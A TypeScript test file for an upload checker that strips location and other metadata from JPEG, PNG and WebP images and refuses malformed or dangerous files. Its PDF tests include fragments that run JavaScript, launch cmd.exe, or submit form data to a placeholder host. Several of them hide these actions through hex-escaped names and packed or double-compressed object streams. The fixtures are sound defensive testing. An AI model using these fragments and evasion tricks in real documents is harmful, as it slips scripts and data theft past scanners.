import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { checkModelFile } from '../../../functions/attachments/model-files/check-model-file.ts';
import { aJpeg, aPdf, aPng, aWebp, exif, pngWith, segment } from '../../support/pictures.ts';

const kept = (name: string, bytes: Uint8Array) => {
  const checked = checkModelFile(name, bytes);
  if (!checked.ok) throw new Error(`${name} is refused: ${checked.code}`);
  return { ...checked.value, text: Buffer.from(checked.value.bytes).toString('latin1') };
};
const codeOf = (name: string, bytes: Uint8Array) => {
  const checked = checkModelFile(name, bytes);
  return checked.ok ? 'taken' : checked.code;
};

describe('a JPEG', () => {
  test('loses where it was taken, what was remarked and what lies behind it, and nothing of itself', () => {
    const clean = aJpeg();
    const given = Buffer.concat([aJpeg(exif(1), segment(0xed, 'Photoshop\0by Jan'), segment(0xfe, 'een opmerking')), Buffer.from('film')]);
    const { bytes, picture, mediaType } = kept('foto.jpg', given);
    expect(Buffer.from(bytes)).toEqual(clean);
    expect(picture).toEqual({ width: 200, height: 100 });
    expect(mediaType).toBe('image/jpeg');
  });

  test('keeps how it is to be turned, and is measured as it is shown', () => {
    const { text, picture } = kept('foto.jpg', aJpeg(exif(6)));
    expect(text).toContain('Exif');
    expect(text).not.toContain('GPS');
    expect(picture).toEqual({ width: 100, height: 200 });
    // What was taken out stays out, and what was kept stays.
    const again = kept('foto.jpg', Buffer.from(text, 'latin1'));
    expect(again.text).toBe(text);
    expect(again.picture).toEqual(picture);
  });

  test('keeps how its colours are meant', () => {
    const profile = segment(0xe2, 'ICC_PROFILE\0\x01\x01sRGB');
    expect(kept('foto.jpg', aJpeg(profile)).text).toContain('sRGB');
    expect(kept('foto.jpg', aJpeg(segment(0xe2, 'MPF\0second picture'))).text).not.toContain('second');
  });

  test.each([
    ['that was cut off', aJpeg().subarray(0, -4)],
    ['without a frame', Buffer.concat([Buffer.from([0xff, 0xd8]), segment(0xfe, 'x'.repeat(200)), Buffer.from([0xff, 0xd9])])],
    [
      'with a segment that is longer than the file',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff]), Buffer.alloc(200), Buffer.from([0xff, 0xd9])]),
    ],
  ])('%s is refused', (_, bytes) => {
    expect(codeOf('foto.jpg', bytes)).toBe('file-mismatch');
  });
});

describe('a PNG', () => {
  test('loses its texts, its dates and its Exif, and nothing of itself', () => {
    const given = pngWith('tEXt', 'Author\0Jan', pngWith('eXIf', 'GPS 51.02 N', pngWith('tIME', '1234567')));
    const { bytes, picture } = kept('foto.png', given);
    expect(Buffer.from(bytes)).toEqual(aPng());
    expect(picture).toEqual({ width: 96, height: 64 });
  });

  test('that says its size twice is refused', () => {
    expect(codeOf('foto.png', pngWith('IHDR', '\0\0\x40\0\0\0\x40\0\x08\x02\0\0\0'))).toBe('file-mismatch');
  });

  test('with a wrong checksum is refused', () => {
    const broken = Buffer.from(aPng());
    broken[20] = (broken[20] ?? 0) ^ 1;
    expect(codeOf('foto.png', broken)).toBe('file-mismatch');
  });

  test.each([
    ['too small to show', { width: 40, height: 64 }],
    ['too large to unpack', { width: 4_001, height: 64 }],
  ])('%s is refused', (_, size) => {
    expect(checkModelFile('foto.png', aPng(size))).toMatchObject({ ok: false, code: 'picture-size', detail: size });
  });
});

describe('a WebP', () => {
  test('loses its Exif and XMP, and no longer promises them', () => {
    const { bytes, picture, text } = kept('foto.webp', aWebp(0x0c, ['EXIF', 'GPS 51.02 N'], ['XMP ', '<x:xmpmeta/>']));
    expect(Buffer.from(bytes)).toEqual(aWebp(0));
    expect(text).not.toMatch(/GPS|xmp/);
    expect(picture).toEqual({ width: 300, height: 200 });
  });

  test('that is drawn larger than it says, or twice, is refused', () => {
    const larger = Buffer.from(aWebp(0));
    const frame = larger.indexOf('VP8 ') + 8;
    larger.writeUInt16LE(16_000, frame + 6);
    expect(codeOf('foto.webp', larger)).toBe('file-mismatch');
    expect(codeOf('foto.webp', aWebp(0, ['VP8 ', '\0\0\0\x9d\x01\x2a\x2c\x01\xc8\0\x01\x02\x03']))).toBe('file-mismatch');
  });

  test('that moves is refused', () => {
    expect(codeOf('foto.webp', aWebp(0x02, ['ANIM', '123456']))).toBe('file-mismatch');
  });
});

describe('a PDF', () => {
  test('is taken as it is', () => {
    expect(Buffer.from(kept('brochure.pdf', aPdf()).bytes)).toEqual(aPdf());
  });

  const script = '1 0 <</S/JavaScript/JS(app.alert)>>';
  const packedAs = (dictionary: string, bytes: Buffer) =>
    aPdf(`2 0 obj<<${dictionary}>>\nstream\n${bytes.toString('latin1')}\nendstream\nendobj\n`);
  const packed = (objects: string) => packedAs('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(objects));
  const innocent = deflateSync('1 0 <</Type/Page>>').toString('latin1');

  test.each([
    ['runs a script', aPdf('2 0 obj<</S/JavaScript/JS(app.alert)>>endobj\n')],
    ['runs a script under a name in hexadecimal', aPdf('2 0 obj<</S/J#61vaScript>>endobj\n')],
    ['starts a program', aPdf('2 0 obj<</S/Launch/F(cmd.exe)>>endobj\n')],
    ['brings files along', aPdf('2 0 obj<</Names<</EmbeddedFiles 3 0 R>>>>endobj\n')],
    ['is encrypted', aPdf('2 0 obj<</Encrypt 3 0 R>>endobj\n')],
    ['runs a script under a short name only', aPdf('2 0 obj<</S/Rendition/JS 3 0 R>>endobj\n')],
    ['sends what is filled in away', aPdf('2 0 obj<</S/SubmitForm/F(https://elders.example)>>endobj\n')],
    ['is encrypted under a name in hexadecimal', aPdf('2 0 obj<</Encr#79pt 3 0 R>>endobj\n')],
    ['runs a script from a packed object', packed(script)],
    ['runs one from far below its heading', packedAs(`/Type/ObjStm${' '.repeat(500)}/Filter/FlateDecode`, deflateSync(script))],
    ['runs one from packed objects in hexadecimal', packedAs('/Type/Obj#53tm/Filter/FlateDecode', deflateSync(script))],
    [
      'runs one from objects that were packed twice',
      packedAs('/Type/ObjStm/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(script))),
    ],
    ['says twice how it was packed', packedAs('/Type/ObjStm/Filter/FlateDecode/Filter/LZWDecode', deflateSync('1 0 <<>>'))],
    ['turned its objects round', packedAs('/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>', deflateSync(`\u0002${script}`))],
    [
      'feigns its packed objects in a string',
      packedAs(`/Type/ObjStm/X(>>stream\n${innocent}endstream)/Filter/FlateDecode`, deflateSync(script)),
    ],
    ['feigns them in a remark', packedAs(`/Type/ObjStm/Filter/FlateDecode%>>stream\n${innocent}endstream\n`, deflateSync(script))],
    ['has packed objects that cannot be read', aPdf('2 0 obj<</Type/ObjStm/Filter/LZWDecode>>\nstream\nxxxx\nendstream\nendobj\n')],
  ])('that %s is refused', (_, bytes) => {
    expect(codeOf('brochure.pdf', bytes)).toBe('file-macros');
  });

  test('with packed objects that only say what is to be seen is taken', () => {
    expect(codeOf('brochure.pdf', packed('1 0 <</Type/Page/JSize 3>>'))).toBe('taken');
    expect(codeOf('brochure.pdf', packedAs('/Filter [ /FlateDecode ] /Type /ObjStm /N 0 ', deflateSync('')))).toBe('taken');
  });

  test('whose pictures happen to hold the letters of a script is taken', () => {
    expect(codeOf('brochure.pdf', aPdf('2 0 obj<</Length 9>>\nstream\n\u0080/JS\u0091/JSx\nendstream\nendobj\n'))).toBe('taken');
  });
});

test.each(['nota.txt', 'lijst.csv'])('%s does not go with a model', (name) => {
  expect(codeOf(name, Buffer.from('a;b\n'))).toBe('file-kind');
});

test('a page under the name of a picture is refused', () => {
  expect(codeOf('foto.jpg', Buffer.from(`<html>${'x'.repeat(200)}</html>`))).toBe('file-mismatch');
});
